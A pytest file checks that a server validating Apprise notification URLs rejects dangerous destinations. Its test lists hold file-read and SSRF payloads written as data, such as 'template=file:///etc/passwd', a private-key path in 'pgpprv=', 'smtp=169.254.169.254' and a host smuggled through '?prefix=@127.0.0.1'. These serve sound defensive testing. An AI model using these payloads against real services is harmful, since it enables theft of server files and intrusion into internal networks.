"""Everything an Apprise URL makes Apprise reach, judged when a destination is added (SPEC section
12, issue 41): not its host alone, but each server its parameters name (an e-mail's `smtp=`, a
Zulip organisation's host, Azure's endpoint, a Nostr relay), and never a file or a template of
this server's (`template=`, PGP keys, any `file:` value), whatever NOTIFY_NETWORKS says."""

from __future__ import annotations

import re
import socket
from pathlib import Path

import apprise
import pytest
from api_helpers import error_of
from apprise.manager_plugins import NotificationManager

from app.services.notify import sending
from app.services.notify.networks import Unreachable

ROOT = Path(__file__).resolve().parents[3]
# A valid Nostr secret key (the plugin's own tests' example), and a 32-character Zulip token.
NSEC = "nsec1vl029mgpspedva04g90vltkh6fvh240zqtv9k0t9af8935ke9laqsnlfe5"
ZULIP = "abcdefghijabcdefghijabcdefghijab"
SLACK = "T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7FQ"
# Azure's access key is base64 ("secretkey"); its endpoint is the first part with a dot.
ACS = "acs://scores@example.org/c2VjcmV0a2V5/{endpoint}/a@example.org"


@pytest.fixture
def names(monkeypatch):
    """Names resolve as the tests say, none leaving the machine: public ones, a LAN's, and one
    that resolves to loopback."""
    known = {"hooks.example.org": "93.184.215.14", "example.org": "93.184.215.14",
             "scores.zulipchat.com": "93.184.215.14", "acs.example.org": "93.184.215.14",
             "lan.example": "192.168.1.10", "loopback.example": "127.0.0.1"}

    def getaddrinfo(host, port, *args, **kwargs):
        if host not in known:
            raise socket.gaierror(socket.EAI_NONAME, "not known to the test")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (known[host], port or 443))]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


def add(api, group, url):
    return api.call("POST", f"/groups/{group.id}/destinations", group.owner,
                    json={"kind": "notify", "url": url, "events": ["match_banked"]})


def refused(api, group, url):
    error = error_of(add(api, group, url), 422)
    assert error["field"] == "url", url
    return error["message"]


def accepted(api, group, url):
    response = add(api, group, url)
    assert response.status_code == 201, (url, response.get_json())
    return response.get_json()


FILES = [
    # Each of these has Apprise open a file of this server (or fetch a URL of its choosing) and
    # send what it read to the URL's host.
    "workflows://93.184.216.34/wf/sig?template=file:///etc/passwd",
    "workflows://93.184.216.34/wf/sig?template=/etc/passwd",
    "discord://123456789/abcdefTOKEN?template=file:///etc/passwd",
    "discord://123456789/abcdefTOKEN?template=/etc/passwd",
    "discord://123456789/abcdefTOKEN?template=https://93.184.216.34/template.json",
    "guilded://123456789/abcdefTOKEN?template=file:///etc/passwd",
    f"slack://{SLACK}/#scores?template=file:///etc/passwd",
    f"https://hooks.slack.com/services/{SLACK}?template=file:///etc/passwd",
    "tgram://123456789:AAHsecretbottoken0123456789abcdef/-100123?template=file:///etc/passwd",
    # An e-mail's PGP keys are files of this server; WKD fetches keys from each recipient's domain.
    "mailtos://u:p@93.184.216.34?to=a@example.org&pgppub=/etc/ssl/private/key.pem",
    "mailtos://u:p@93.184.216.34?to=a@example.org&pgpprv=/etc/ssl/private/key.pem",
    "mailtos://u:p@93.184.216.34?to=a@example.org&pgp=encrypt",
    "mailtos://u:p@93.184.216.34?to=a@example.org&wkd=yes",
    # Any value that names a file, whichever plugin reads it.
    "ntfys://93.184.216.34/scores?attach=file:///etc/passwd",
    "discord://123456789/abcdefTOKEN?avatar_url=FILE:///etc/passwd",
]


@pytest.mark.parametrize("url", FILES)
@pytest.mark.parametrize("networks", ["public", "any"])
def test_a_url_that_has_apprise_read_a_file_or_a_template_is_422(app, api, group, names, url,
                                                                 networks):
    app.config["NOTIFY_NETWORKS"] = networks
    refused(api, group, url)
    assert api.call("GET", f"/groups/{group.id}/destinations", group.owner).get_json() == {
        "destinations": []}


HOSTS = [
    # The mail server is smtp=, not the address's domain.
    "mailtos://u:p@93.184.216.34?smtp=127.0.0.1&to=a@example.org",
    "mailtos://u:p@example.org?smtp=loopback.example&to=a@example.org",
    "mailtos://u:p@example.org?smtp=lan.example&to=a@example.org",
    "mailtos://u:p@93.184.216.34?smtp=169.254.169.254&to=a@example.org",
    # Zulip's organisation is a host (`org.hostname`) when it has a dot.
    f"zulip://bot@127.0.0.1/{ZULIP}/scores",
    f"zulip://bot@lan.example/{ZULIP}/scores",
    f"zulip://bot@loopback.example/{ZULIP}/scores",
    # Home Assistant writes ?prefix= straight after the host: "@127.0.0.1" is another host.
    "hassios://93.184.216.34/ABCDEFtoken?prefix=@127.0.0.1",
    "hassios://93.184.216.34/ABCDEFtoken?prefix=.loopback.example",
    # Azure Communication Services' endpoint, a path part.
    ACS.format(endpoint="loopback.example"),
    # Nostr's relays (plain ws:// too), its Blossom server, and a recipient's NIP-05 domain.
    f"nostr://{NSEC}/?relay=wss://127.0.0.1",
    f"nostr://{NSEC}/?relay=wss://93.184.216.34,wss://lan.example",
    f"nostr://{NSEC}/?relay=ws://93.184.216.34",
    f"nostr://{NSEC}/?blossom=https://127.0.0.1",
    f"nostr://{NSEC}/?blossom=http://93.184.216.34",
    f"nostr://{NSEC}/alice@loopback.example",
]


@pytest.mark.parametrize("url", HOSTS)
def test_every_server_an_apprise_url_names_is_judged_under_public(api, group, names, url):
    refused(api, group, url)


def test_each_network_setting_judges_those_servers_as_it_judges_a_host(app, api, group, names):
    app.config["NOTIFY_NETWORKS"] = "private"
    for url in ("mailtos://u:p@example.org?smtp=lan.example&to=a@example.org",
                f"zulip://bot@lan.example/{ZULIP}/scores",
                f"nostr://{NSEC}/?relay=ws://lan.example"):
        accepted(api, group, url)
    for url in ("mailtos://u:p@93.184.216.34?smtp=127.0.0.1&to=a@example.org",
                "mailtos://u:p@93.184.216.34?smtp=169.254.169.254&to=a@example.org",
                f"zulip://bot@127.0.0.1/{ZULIP}/scores",
                ACS.format(endpoint="loopback.example"),
                f"nostr://{NSEC}/alice@loopback.example"):
        refused(api, group, url)
    app.config["NOTIFY_NETWORKS"] = "any"
    for url in ("mailtos://u:p@93.184.216.34?smtp=127.0.0.1&to=a@example.org",
                f"zulip://bot@127.0.0.1/{ZULIP}/scores",
                f"nostr://{NSEC}/?relay=ws://127.0.0.1"):
        accepted(api, group, url)


@pytest.mark.parametrize("url", [
    "discord://123456789/abcdefTOKEN",
    "discord://123456789/abcdefTOKEN?avatar_url=https://example.org/a.png",
    f"slack://{SLACK}/#scores",
    f"https://hooks.slack.com/services/{SLACK}",
    "tgram://123456789:AAHsecretbottoken0123456789abcdef/-100123",
    "ntfys://scores",
    "ntfys://93.184.216.34/scores",
    "ntfys://93.184.216.34/scores?attach=https://example.org/card.png",
    "mailtos://u:p@93.184.216.34?to=a@example.org",
    "mailtos://u:p@example.org?smtp=93.184.216.34&to=a@example.org",
    "mailtos://u:p@example.org?smtp=hooks.example.org&to=a@example.org&pgp=none",
    "matrixs://u:p@93.184.216.34/#scores",
    "workflows://93.184.216.34/wf/sig",
    "hassios://93.184.216.34/ABCDEFtoken?prefix=/ha",
    # Apprise's Workflows plugin speaks HTTPS under either name: workflow:// is not plain.
    "workflow://93.184.216.34/wf/sig",
    f"zulip://bot@scores/{ZULIP}/scores",
    f"zulip://bot@scores.zulipchat.com/{ZULIP}/scores",
    ACS.format(endpoint="acs.example.org"),
    f"nostr://{NSEC}/?relay=wss://93.184.216.34",
])
def test_a_legitimate_service_is_still_added_under_public(api, group, names, url):
    accepted(api, group, url)


def test_a_try_of_a_url_that_reads_a_file_is_refused_before_apprise_opens_it(tmp_path):
    """A destination kept from before this check is judged again at each try: never sent."""
    secret = tmp_path / "secret.json"
    secret.write_text('{"text": "the server\'s secret"}')
    url = f"discord://123456789/abcdefTOKEN?template=file://{secret}"
    outcome = sending.notify(url, "title", "body", None, "any", 2)
    assert (outcome.delivered, outcome.why) == (False, "unreachable")


def test_every_plugin_of_the_installed_apprise_has_been_read():
    """What each plugin reaches was read from Apprise's source (plugins.py says how): a plugin
    of another version may reach what nobody read, so an upgrade reads them again."""
    from app.services.notify import plugins

    assert apprise.__version__ == plugins.READ_AGAINST
    manager = NotificationManager()
    manager.schemas(include_disabled=True)
    installed = {plugin.__name__ for plugin in manager.plugins(include_disabled=True)}
    assert installed == set(plugins.READ), (installed - set(plugins.READ),
                                            set(plugins.READ) - installed)


def test_a_plugin_nobody_read_is_refused():
    from app.services.notify import plugins

    class NotifyNewcomer:
        template_tokens = {"host": {}}
        host = "93.184.216.34"

    with pytest.raises(Unreachable):
        plugins.servers(NotifyNewcomer(), "newcomer")


NOTIFY_SAMPLES = {
    "discord": "discord://123456789/abcdefTOKEN",
    "tgram": "tgram://123456789:AAHsecretbottoken0123456789abcdef/-100123",
    "matrix": "matrix://u:p@93.184.216.34/#scores",
    "matrixs": "matrixs://u:p@93.184.216.34/#scores",
    "ntfys": "ntfys://93.184.216.34/scores",
    "mailtos": "mailtos://u:p@93.184.216.34?to=a@example.org",
}


def test_the_documented_examples_are_what_the_server_takes_under_public(api, group, names):
    """docs/api.md's examples, the OpenAPI example and the destinations page's own, as written
    (their names resolving to a public address, as they do on the internet)."""
    api_md = (ROOT / "docs/api.md").read_text()
    openapi = (ROOT / "app/api/openapi/destinations.py").read_text()
    page = (ROOT / "app/web/group/destinations.py").read_text()
    hooks = re.findall(r'"url": "(https://[^"]+)"', api_md + openapi)
    hooks += re.findall(r'"(https://example\.org/[^"]+)"', page)
    assert len(hooks) >= 3, hooks
    for url in hooks:
        response = api.call("POST", f"/groups/{group.id}/destinations", group.owner,
                            json={"kind": "webhook", "url": url, "events": ["match_banked"]})
        assert response.status_code == 201, (url, response.get_json())
    (chat,) = re.findall(r'"(discord://[^"]+)"', page)
    accepted(api, group, chat)
    # api.md names the services by their schemes (`discord://…`): each in a form this server
    # sends to under the default NOTIFY_NETWORKS.
    schemes = re.findall(r"`([a-z]+)://…`", api_md)
    assert schemes, "docs/api.md names no notify scheme"
    for scheme in schemes:
        accepted(api, group, NOTIFY_SAMPLES[scheme])
